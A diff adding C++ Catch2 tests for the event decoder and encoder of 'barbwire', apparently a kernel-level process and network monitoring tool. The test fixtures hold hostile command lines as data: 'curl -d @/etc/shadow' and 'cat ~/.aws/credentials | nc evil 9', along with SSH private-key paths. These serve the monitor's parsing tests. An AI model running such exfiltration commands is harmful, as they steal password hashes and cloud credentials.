@@ -1,0 +1,564 @@
+// decode(): ring-buffer bytes -> event, and encode(), its inverse.
+#include <catch2/catch.hpp>
+
+#include <cstring>
+#include <string>
+#include <vector>
+
+#include "barbwire/decode.hpp"
+
+using namespace barbwire;
+using namespace std::string_literals;
+
+namespace {
+
+// Raw bytes of a record struct, built by hand so these tests do not depend on encode().
+template <class Record>
+std::vector<std::byte> bytes_of(const Record& r, std::size_t size = sizeof(Record)) {
+    std::vector<std::byte> out(size);
+    std::memcpy(out.data(), &r, std::min(size, sizeof(Record)));
+    return out;
+}
+
+bw_event_header header(std::uint16_t kind, std::uint32_t size) {
+    bw_event_header h{};
+    h.kind = kind;
+    h.version = BW_ABI_VERSION;
+    h.size = size;
+    h.ktime_ns = 123456789;
+    h.pid = 11; // thread
+    h.tgid = 10; // process
+    return h;
+}
+
+bw_open_event open_record(std::string_view path) {
+    bw_open_event r{};
+    r.hdr = header(BW_EVENT_OPEN, sizeof(r));
+    r.dev = 0x803;
+    r.ino = 4242;
+    r.flags = 0x80000;
+    r.uid = 1000;
+    std::memcpy(r.path, path.data(), path.size());
+    r.path_size = static_cast<std::uint16_t>(path.size());
+    return r;
+}
+
+bw_net_event net_record() {
+    bw_net_event r{};
+    r.hdr = header(BW_EVENT_NET, sizeof(r));
+    r.family = AF_INET;
+    r.port = 443;
+    r.protocol = IPPROTO_TCP;
+    r.op = BW_NET_CONNECT;
+    r.uid = 7;
+    r.addr[0] = 203;
+    r.addr[1] = 0;
+    r.addr[2] = 113;
+    r.addr[3] = 7;
+    return r;
+}
+
+bw_exec_event exec_record() {
+    bw_exec_event r{};
+    r.hdr = header(BW_EVENT_EXEC, sizeof(r));
+    r.ppid = 1;
+    r.uid = 1000;
+    r.sid = 5;
+    r.pgid = 6;
+    r.exe_dev = 0x801;
+    r.exe_ino = 99;
+    std::memcpy(r.comm, "curl", 4);
+    std::memcpy(r.exe, "/usr/bin/curl", 13);
+    const char args[] = "curl\0-d\0@/etc/shadow\0";
+    std::memcpy(r.argv, args, sizeof(args) - 1);
+    r.argv_size = sizeof(args) - 1;
+    return r;
+}
+
+error decode_error(const std::vector<std::byte>& b) {
+    auto r = decode(b);
+    REQUIRE_FALSE(r.has_value());
+    return r.error();
+}
+
+event make_event(event_body body) {
+    event e;
+    e.ts = nanoseconds{987654321};
+    e.pid = 300;
+    e.tid = 301;
+    e.body = std::move(body);
+    return e;
+}
+
+} // namespace
+
+TEST_CASE("record_size matches the ABI structs") {
+    CHECK(record_size(event_kind::exec) == 848);
+    CHECK(record_size(event_kind::fork) == 32);
+    CHECK(record_size(event_kind::exit) == 32);
+    CHECK(record_size(event_kind::open) == 568);
+    CHECK(record_size(event_kind::net) == 56);
+    CHECK(max_record_size == 848);
+}
+
+TEST_CASE("decode: exec record") {
+    auto r = decode(bytes_of(exec_record()));
+    REQUIRE(r.has_value());
+    CHECK(r->ts == nanoseconds{123456789});
+    CHECK(r->pid == 10);
+    CHECK(r->tid == 11);
+    CHECK_FALSE(r->truncated);
+    REQUIRE(r->kind() == event_kind::exec);
+    const auto& x = *r->as<exec_event>();
+    CHECK(x.ppid == 1);
+    CHECK(x.uid == 1000);
+    CHECK(x.sid == 5);
+    CHECK(x.pgid == 6);
+    CHECK(x.exe_dev == 0x801);
+    CHECK(x.exe_ino == 99);
+    CHECK(x.comm == "curl");
+    CHECK(x.exe == "/usr/bin/curl");
+    CHECK(x.argv == std::vector<std::string>{"curl", "-d", "@/etc/shadow"});
+    CHECK(x.exe_sha256.empty());
+}
+
+TEST_CASE("decode: fork maps child_tgid to child_pid and child_pid to child_tid") {
+    bw_fork_event r{};
+    r.hdr = header(BW_EVENT_FORK, sizeof(r));
+    r.child_pid = 77;  // thread id
+    r.child_tgid = 70; // process id
+    auto e = decode(bytes_of(r));
+    REQUIRE(e.has_value());
+    REQUIRE(e->as<fork_event>() != nullptr);
+    CHECK(e->as<fork_event>()->child_pid == 70);
+    CHECK(e->as<fork_event>()->child_tid == 77);
+    CHECK(e->pid == 10);
+    CHECK(e->tid == 11);
+}
+
+TEST_CASE("decode: exit record keeps a negative exit code") {
+    bw_exit_event r{};
+    r.hdr = header(BW_EVENT_EXIT, sizeof(r));
+    r.exit_code = -9;
+    auto e = decode(bytes_of(r));
+    REQUIRE(e.has_value());
+    REQUIRE(e->as<exit_event>() != nullptr);
+    CHECK(e->as<exit_event>()->exit_code == -9);
+}
+
+TEST_CASE("decode: open record") {
+    auto e = decode(bytes_of(open_record("/home/a/.ssh/id_rsa")));
+    REQUIRE(e.has_value());
+    const auto* o = e->as<open_event>();
+    REQUIRE(o != nullptr);
+    CHECK(o->path == "/home/a/.ssh/id_rsa");
+    CHECK(o->dev == 0x803);
+    CHECK(o->ino == 4242);
+    CHECK(o->flags == 0x80000);
+    CHECK(o->uid == 1000);
+}
+
+TEST_CASE("decode: open path is bounded by path_size and by the first NUL") {
+    SECTION("path_size shorter than the string") {
+        auto r = open_record("/etc/shadow");
+        r.path_size = 4;
+        CHECK(decode(bytes_of(r))->as<open_event>()->path == "/etc");
+    }
+    SECTION("NUL before path_size") {
+        auto r = open_record("/etc/shadow");
+        r.path[4] = '\0';
+        CHECK(decode(bytes_of(r))->as<open_event>()->path == "/etc");
+    }
+    SECTION("path_size zero") {
+        auto r = open_record("/etc/shadow");
+        r.path_size = 0;
+        CHECK(decode(bytes_of(r))->as<open_event>()->path.empty());
+    }
+    SECTION("a path filling the whole field with no NUL") {
+        const std::string full(BW_PATH_MAX, 'p');
+        auto r = open_record(full);
+        REQUIRE(r.path_size == BW_PATH_MAX);
+        CHECK(decode(bytes_of(r))->as<open_event>()->path == full);
+    }
+}
+
+TEST_CASE("decode: strings exactly filling their fields with no NUL") {
+    auto r = exec_record();
+    std::memset(r.comm, 'c', sizeof(r.comm));
+    std::memset(r.exe, 'e', sizeof(r.exe));
+    std::memset(r.argv, 'a', sizeof(r.argv));
+    r.argv_size = BW_ARGV_MAX;
+    auto e = decode(bytes_of(r));
+    REQUIRE(e.has_value());
+    const auto& x = *e->as<exec_event>();
+    CHECK(x.comm == std::string(BW_COMM_LEN, 'c'));
+    CHECK(x.exe == std::string(BW_PATH_MAX, 'e'));
+    CHECK(x.argv == std::vector<std::string>{std::string(BW_ARGV_MAX, 'a')});
+}
+
+TEST_CASE("decode: argv splitting") {
+    auto argv_of = [](std::string_view raw) {
+        auto r = exec_record();
+        std::memset(r.argv, 'X', sizeof(r.argv)); // bytes past argv_size must be ignored
+        std::memcpy(r.argv, raw.data(), raw.size());
+        r.argv_size = static_cast<std::uint16_t>(raw.size());
+        auto e = decode(bytes_of(r));
+        REQUIRE(e.has_value());
+        return e->as<exec_event>()->argv;
+    };
+    using v = std::vector<std::string>;
+    CHECK(argv_of("") == v{});
+    CHECK(argv_of("ls"s) == v{"ls"});
+    CHECK(argv_of("ls\0"s) == v{"ls"});
+    CHECK(argv_of("ls\0-l\0"s) == v{"ls", "-l"});
+    CHECK(argv_of("ls\0-l"s) == v{"ls", "-l"}); // cut by the kernel: last argument without NUL
+    CHECK(argv_of("\0"s) == v{""});
+    CHECK(argv_of("a\0\0b\0"s) == v{"a", "", "b"});
+    CHECK(argv_of("a\0\0"s) == v{"a", ""});
+}
+
+TEST_CASE("decode: truncated flag") {
+    auto r = open_record("/x");
+    r.hdr.flags = BW_F_TRUNCATED;
+    CHECK(decode(bytes_of(r))->truncated);
+    r.hdr.flags = 0x80; // unknown flag bits are ignored
+    CHECK_FALSE(decode(bytes_of(r))->truncated);
+}
+
+TEST_CASE("decode: IPv4 uses four bytes and zeroes the rest") {
+    auto r = net_record();
+    std::memset(r.addr + 4, 0xEE, 12); // stale bytes after the IPv4 address
+    auto e = decode(bytes_of(r));
+    REQUIRE(e.has_value());
+    const auto* n = e->as<net_event>();
+    REQUIRE(n != nullptr);
+    CHECK(n->op == net_op::connect);
+    CHECK(n->protocol == ip_proto::tcp);
+    CHECK(n->addr.family == AF_INET);
+    CHECK(n->addr.to_string() == "203.0.113.7");
+    CHECK(n->addr == *ip_address::parse("203.0.113.7"));
+    for (std::size_t i = 4; i < 16; ++i) CHECK(n->addr.bytes[i] == 0);
+    CHECK(n->port == 443);
+    CHECK(n->uid == 7);
+}
+
+TEST_CASE("decode: IPv6 UDP send") {
+    auto r = net_record();
+    r.family = AF_INET6;
+    r.protocol = IPPROTO_UDP;
+    r.op = BW_NET_SEND;
+    r.port = 53;
+    const auto a = *ip_address::parse("2001:db8::1");
+    std::memcpy(r.addr, a.bytes.data(), 16);
+    auto e = decode(bytes_of(r));
+    REQUIRE(e.has_value());
+    const auto* n = e->as<net_event>();
+    CHECK(n->op == net_op::send);
+    CHECK(n->protocol == ip_proto::udp);
+    CHECK(n->addr == a);
+    CHECK(n->addr.to_string() == "2001:db8::1");
+    CHECK(n->port == 53);
+}
+
+TEST_CASE("decode errors: short_record") {
+    SECTION("empty input") {
+        auto err = decode_error({});
+        CHECK(err.code == errc::short_record);
+        CHECK(err.message == "record is 0 bytes, shorter than the 24-byte header");
+    }
+    SECTION("less than a header") {
+        auto b = bytes_of(open_record("/x"), 23);
+        auto err = decode_error(b);
+        CHECK(err.code == errc::short_record);
+        CHECK(err.message == "record is 23 bytes, shorter than the 24-byte header");
+    }
+    SECTION("less than the kind needs, header.size agreeing") {
+        auto r = open_record("/x");
+        r.hdr.size = 40;
+        auto err = decode_error(bytes_of(r, 40));
+        CHECK(err.code == errc::short_record);
+        CHECK(err.message == "open record is 40 bytes, needs 568");
+    }
+    SECTION("a header alone") {
+        auto r = net_record();
+        r.hdr.size = 24;
+        auto err = decode_error(bytes_of(r, 24));
+        CHECK(err.code == errc::short_record);
+        CHECK(err.message == "net record is 24 bytes, needs 56");
+    }
+}
+
+TEST_CASE("decode errors: oversized_record") {
+    bw_fork_event r{};
+    r.hdr = header(BW_EVENT_FORK, 40);
+    auto err = decode_error(bytes_of(r, 40));
+    CHECK(err.code == errc::oversized_record);
+    CHECK(err.message == "fork record is 40 bytes, expected 32");
+}
+
+TEST_CASE("decode errors: size_mismatch") {
+    auto r = open_record("/x");
+    r.hdr.size = 600;
+    auto err = decode_error(bytes_of(r));
+    CHECK(err.code == errc::size_mismatch);
+    CHECK(err.message == "open record header says 600 bytes, got 568");
+}
+
+TEST_CASE("decode errors: unknown_kind") {
+    for (std::uint16_t kind : {std::uint16_t{0}, std::uint16_t{6}, std::uint16_t{0xFFFF}}) {
+        auto r = open_record("/x");
+        r.hdr.kind = kind;
+        auto err = decode_error(bytes_of(r));
+        CHECK(err.code == errc::unknown_kind);
+        CHECK(err.message == "unknown record kind " + std::to_string(kind) + " (known: 1..5)");
+    }
+}
+
+TEST_CASE("decode errors: bad_version") {
+    auto r = open_record("/x");
+    r.hdr.version = 2;
+    auto err = decode_error(bytes_of(r));
+    CHECK(err.code == errc::bad_version);
+    CHECK(err.message == "record has ABI version 2, expected 1");
+}
+
+TEST_CASE("decode errors: the check order is header, version, kind, size field, length, fields") {
+    SECTION("version before kind") {
+        auto r = open_record("/x");
+        r.hdr.version = 0;
+        r.hdr.kind = 99;
+        CHECK(decode_error(bytes_of(r)).code == errc::bad_version);
+    }
+    SECTION("kind before size") {
+        auto r = open_record("/x");
+        r.hdr.kind = 99;
+        r.hdr.size = 1;
+        CHECK(decode_error(bytes_of(r)).code == errc::unknown_kind);
+    }
+    SECTION("size field before record length") {
+        auto r = open_record("/x");
+        r.hdr.size = 568; // the right size for the kind, but only 100 bytes given
+        CHECK(decode_error(bytes_of(r, 100)).code == errc::size_mismatch);
+    }
+    SECTION("record length before fields") {
+        auto r = net_record();
+        r.family = 1;
+        r.hdr.size = 60;
+        CHECK(decode_error(bytes_of(r, 60)).code == errc::oversized_record);
+    }
+}
+
+TEST_CASE("decode errors: bad_field") {
+    SECTION("net family") {
+        auto r = net_record();
+        r.family = 1; // AF_UNIX
+        auto err = decode_error(bytes_of(r));
+        CHECK(err.code == errc::bad_field);
+        CHECK(err.message == "net record family 1 is neither AF_INET (2) nor AF_INET6 (10)");
+    }
+    SECTION("net op") {
+        auto r = net_record();
+        r.op = 3;
+        auto err = decode_error(bytes_of(r));
+        CHECK(err.code == errc::bad_field);
+        CHECK(err.message == "net record op 3 is neither connect (1) nor send (2)");
+    }
+    SECTION("net op zero") {
+        auto r = net_record();
+        r.op = 0;
+        CHECK(decode_error(bytes_of(r)).code == errc::bad_field);
+    }
+    SECTION("net protocol") {
+        auto r = net_record();
+        r.protocol = 1; // ICMP
+        auto err = decode_error(bytes_of(r));
+        CHECK(err.code == errc::bad_field);
+        CHECK(err.message == "net record protocol 1 is neither TCP (6) nor UDP (17)");
+    }
+    SECTION("open path_size") {
+        auto r = open_record("/x");
+        r.path_size = BW_PATH_MAX + 1;
+        auto err = decode_error(bytes_of(r));
+        CHECK(err.code == errc::bad_field);
+        CHECK(err.message == "open record path_size 513 exceeds the 512-byte path field");
+    }
+    SECTION("exec argv_size") {
+        auto r = exec_record();
+        r.argv_size = 0xFFFF;
+        auto err = decode_error(bytes_of(r));
+        CHECK(err.code == errc::bad_field);
+        CHECK(err.message == "exec record argv_size 65535 exceeds the 256-byte argv field");
+    }
+    SECTION("limits themselves are accepted") {
+        auto o = open_record("/x");
+        o.path_size = BW_PATH_MAX;
+        CHECK(decode(bytes_of(o)).has_value());
+        auto x = exec_record();
+        x.argv_size = BW_ARGV_MAX;
+        CHECK(decode(bytes_of(x)).has_value());
+    }
+}
+
+TEST_CASE("decode: unaligned input at every offset") {
+    const auto rec = bytes_of(exec_record());
+    const auto want = decode(rec);
+    REQUIRE(want.has_value());
+    std::vector<std::byte> buf(rec.size() + 16);
+    for (std::size_t off = 1; off < 16; ++off) {
+        std::memcpy(buf.data() + off, rec.data(), rec.size());
+        auto got = decode(std::span<const std::byte>(buf.data() + off, rec.size()));
+        REQUIRE(got.has_value());
+        CHECK(*got == *want);
+    }
+}
+
+TEST_CASE("decode never reads past the span: a prefix of a valid record is rejected") {
+    const auto rec = bytes_of(exec_record());
+    for (std::size_t n = 0; n < rec.size(); ++n) {
+        auto r = decode(std::span<const std::byte>(rec.data(), n));
+        REQUIRE_FALSE(r.has_value());
+        CHECK((r.error().code == errc::short_record || r.error().code == errc::size_mismatch));
+    }
+}
+
+TEST_CASE("encode: the record is zeroed and laid out as the ABI says") {
+    open_event o;
+    o.path = "/etc/shadow";
+    o.dev = 1;
+    o.ino = 2;
+    o.flags = 3;
+    o.uid = 4;
+    const auto b = encode(make_event(o));
+    REQUIRE(b.size() == sizeof(bw_open_event));
+    bw_open_event r;
+    std::memcpy(&r, b.data(), sizeof(r));
+    CHECK(r.hdr.kind == BW_EVENT_OPEN);
+    CHECK(r.hdr.version == BW_ABI_VERSION);
+    CHECK(r.hdr.flags == 0);
+    CHECK(r.hdr.size == sizeof(bw_open_event));
+    CHECK(r.hdr.ktime_ns == 987654321);
+    CHECK(r.hdr.tgid == 300);
+    CHECK(r.hdr.pid == 301);
+    CHECK(r.path_size == 11);
+    CHECK(std::string_view(r.path, 11) == "/etc/shadow");
+    for (std::size_t i = 11; i < sizeof(r.path); ++i) CHECK(r.path[i] == '\0');
+    CHECK(r._pad0 == 0);
+    CHECK(r._pad1 == 0);
+}
+
+TEST_CASE("round trip decode(encode(e)) == e for each kind") {
+    exec_event x;
+    x.ppid = 1;
+    x.uid = 2;
+    x.sid = 3;
+    x.pgid = 4;
+    x.exe_dev = 0xFFFFFFFFFFFFFFFFull;
+    x.exe_ino = 6;
+    x.comm = "bash";
+    x.exe = "/usr/bin/bash";
+    x.argv = {"bash", "-c", "", "cat ~/.aws/credentials | nc evil 9"};
+    fork_event f{.child_pid = 500, .child_tid = 501};
+    exit_event xt{.exit_code = -1};
+    open_event o;
+    o.path = "/root/.ssh/id_ed25519";
+    o.flags = -1;
+    o.dev = 7;
+    o.ino = 8;
+    o.uid = 0xFFFFFFFF;
+    net_event n4;
+    n4.addr = *ip_address::parse("10.1.2.3");
+    n4.port = 65535;
+    n4.uid = 9;
+    net_event n6;
+    n6.op = net_op::send;
+    n6.protocol = ip_proto::udp;
+    n6.addr = *ip_address::parse("fe80::1:2");
+    n6.port = 0;
+    for (const event_body& body : {event_body{x}, event_body{f}, event_body{xt}, event_body{o}, event_body{n4},
+                                   event_body{n6}}) {
+        auto e = make_event(body);
+        for (bool truncated : {false, true}) {
+            e.truncated = truncated;
+            auto back = decode(encode(e));
+            REQUIRE(back.has_value());
+            CHECK(*back == e);
+        }
+    }
+}
+
+TEST_CASE("encode: strings exactly filling their fields round-trip without the flag") {
+    exec_event x;
+    x.comm = std::string(BW_COMM_LEN, 'c');
+    x.exe = std::string(BW_PATH_MAX, 'e');
+    x.argv = {std::string(100, 'a'), std::string(BW_ARGV_MAX - 101, 'b')}; // 100 + NUL + 155 = 256, no final NUL
+    const auto e = make_event(x);
+    const auto b = encode(e);
+    bw_exec_event r;
+    std::memcpy(&r, b.data(), sizeof(r));
+    CHECK(r.argv_size == BW_ARGV_MAX);
+    CHECK(r.hdr.flags == 0);
+    auto back = decode(b);
+    REQUIRE(back.has_value());
+    CHECK(*back == e);
+}
+
+TEST_CASE("encode: strings that do not fit are cut and flagged") {
+    SECTION("comm") {
+        exec_event x;
+        x.comm = std::string(BW_COMM_LEN + 1, 'c');
+        auto back = decode(encode(make_event(x)));
+        REQUIRE(back.has_value());
+        CHECK(back->truncated);
+        CHECK(back->as<exec_event>()->comm == std::string(BW_COMM_LEN, 'c'));
+    }
+    SECTION("exe") {
+        exec_event x;
+        x.exe = std::string(BW_PATH_MAX + 10, 'e');
+        auto back = decode(encode(make_event(x)));
+        CHECK(back->truncated);
+        CHECK(back->as<exec_event>()->exe.size() == BW_PATH_MAX);
+    }
+    SECTION("path") {
+        open_event o;
+        o.path = "/" + std::string(BW_PATH_MAX, 'p');
+        auto back = decode(encode(make_event(o)));
+        REQUIRE(back.has_value());
+        CHECK(back->truncated);
+        CHECK(back->as<open_event>()->path == o.path.substr(0, BW_PATH_MAX));
+    }
+    SECTION("argv cut inside an argument") {
+        exec_event x;
+        x.argv = {std::string(200, 'a'), std::string(100, 'b')};
+        auto back = decode(encode(make_event(x)));
+        REQUIRE(back.has_value());
+        CHECK(back->truncated);
+        CHECK(back->as<exec_event>()->argv ==
+              std::vector<std::string>{std::string(200, 'a'), std::string(BW_ARGV_MAX - 201, 'b')});
+    }
+    SECTION("argv: the field is full and more arguments follow") {
+        exec_event x;
+        x.argv = {std::string(BW_ARGV_MAX, 'a'), "b"};
+        auto back = decode(encode(make_event(x)));
+        CHECK(back->truncated);
+        CHECK(back->as<exec_event>()->argv == std::vector<std::string>{std::string(BW_ARGV_MAX, 'a')});
+    }
+    SECTION("argv: an empty last argument needs a NUL that does not fit") {
+        exec_event x;
+        x.argv = {std::string(BW_ARGV_MAX - 1, 'a'), ""}; // 255 + NUL = 256, then "" needs one more
+        auto back = decode(encode(make_event(x)));
+        CHECK(back->truncated);
+        CHECK(back->as<exec_event>()->argv == std::vector<std::string>{std::string(BW_ARGV_MAX - 1, 'a')});
+    }
+}
+
+TEST_CASE("encode_into: too small a buffer writes nothing") {
+    const auto e = make_event(exit_event{.exit_code = 3});
+    std::array<std::byte, 40> buf{};
+    buf.fill(std::byte{0x5A});
+    CHECK(encode_into(e, std::span<std::byte>(buf.data(), 31)) == 0);
+    CHECK(buf[0] == std::byte{0x5A});
+    CHECK(encode_into(e, std::span<std::byte>(buf.data() + 1, 32)) == 32); // unaligned target
+    auto back = decode(std::span<const std::byte>(buf.data() + 1, 32));
+    REQUIRE(back.has_value());
+    CHECK(*back == e);
+}
